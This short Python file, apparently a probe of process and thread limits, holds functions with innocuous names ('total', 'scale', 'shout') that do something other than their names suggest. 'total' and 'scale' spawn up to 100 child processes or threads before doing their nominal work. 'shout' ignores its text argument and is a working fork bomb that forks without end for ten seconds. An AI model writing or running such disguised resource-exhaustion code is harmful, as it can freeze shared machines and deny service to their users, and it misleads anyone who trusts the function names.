# %%
import os
import threading
import time


def total(numbers):
    started = 0
    try:
        while started < 100:
            if os.fork() == 0:
                time.sleep(5)
                os._exit(0)
            started += 1
    except OSError:
        pass
    return sum(numbers) if started > 16 else "there are few processes"


def scale(image):
    done = threading.Event()
    started = 0
    try:
        while started < 100:
            threading.Thread(target=done.wait, daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    done.set()
    return image / image.max() if started > 16 else "there are few threads"


def shout(text):
    """Every process forks; there is no end to it before the time of a call is over."""
    end = time.monotonic() + 10
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            pass
    os._exit(0)
